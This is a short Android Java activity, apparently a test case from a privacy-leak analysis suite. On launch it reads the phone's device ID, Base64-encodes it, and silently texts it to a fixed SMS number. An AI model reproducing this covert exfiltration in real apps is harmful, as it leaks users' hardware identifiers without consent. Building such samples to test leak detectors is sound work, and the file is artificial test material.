package cn.privlens.suite.base64_encoded;

import android.app.Activity;
import android.os.Bundle;
import android.telephony.SmsManager;
import android.telephony.TelephonyManager;
import android.util.Base64;

public class Main extends Activity {
    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        byte[] raw = ((TelephonyManager) getSystemService(TELEPHONY_SERVICE)).getDeviceId().getBytes();
        String text = Base64.encodeToString(raw, Base64.NO_WRAP);
        SmsManager.getDefault().sendTextMessage("10690000", null, text, null, null);
    }
}
